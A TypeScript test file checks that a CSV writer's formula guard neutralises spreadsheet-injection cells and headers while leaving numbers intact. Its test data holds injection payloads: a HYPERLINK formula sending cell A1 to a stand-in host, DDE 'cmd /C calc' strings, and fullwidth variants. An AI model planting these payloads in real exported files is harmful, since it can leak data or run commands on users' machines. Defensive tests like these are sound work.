/**
 * Writing CSV: quoting as RFC 4180 says, and the formula guard — cells and headers a
 * spreadsheet would run as formulas get a leading single quote, numbers stay numbers, and the
 * guard can be turned off.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, isFormulaLike, toCsv } from './csv-write.js';

const read = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;

describe('formula guard', () => {
  const malicious = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    '+SUM(A1)',
    '-2+3',
    '@cmd',
    "=cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    '   =1+1',
    '\t=1+1',
    '\r=1+1',
    '＝ＳＵＭ(A1)',
    '＋1+1',
    '－cmd',
    '＠SUM(A1)',
    '\u3000=1',
    '+81 3-1234-5678',
  ];

  it.each(malicious)('neutralises %j', (cell) => {
    expect(isFormulaLike(cell)).toBe(true);
    expect(read(toCsv({ header: ['a'], rows: [[cell]] }))[1][0]).toBe(`'${cell}`);
  });

  it('neutralises a malicious header', () => {
    const csv = toCsv({ header: ["=cmd|' /C calc'!A0", 'ok'], rows: [['1', '2']] });
    expect(read(csv)[0]).toEqual(["'=cmd|' /C calc'!A0", 'ok']);
  });

  it.each([
    '-12',
    '-12.5',
    '-1,234',
    '-1.234,56',
    '+3,5',
    '-0.383',
    '－１２',
    '-￥1,200',
    '-',
    '+',
    'plain',
    '',
    'a=b',
  ])('leaves %j as it is', (cell) => {
    expect(isFormulaLike(cell)).toBe(false);
    expect(csvCell(cell, ',')).toBe(/[,"]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);
  });

  it('writes raw cells when the guard is turned off', () => {
    const table = { header: ['=h'], rows: [['+SUM(A1)'], ['@cmd']] };
    expect(toCsv(table, { formulaGuard: false, bom: false })).toBe('=h\r\n+SUM(A1)\r\n@cmd\r\n');
    expect(toCsv(table, { bom: false })).toBe("'=h\r\n'+SUM(A1)\r\n'@cmd\r\n");
  });

  it('still quotes what RFC 4180 requires', () => {
    expect(
      toCsv(
        {
          header: ['a', 'b'],
          rows: [
            ['x,y', 'say "hi"'],
            [' lead', 'line\nbreak'],
          ],
        },
        { bom: false },
      ),
    ).toBe('a,b\r\n"x,y","say ""hi"""\r\n" lead","line\nbreak"\r\n');
  });
});
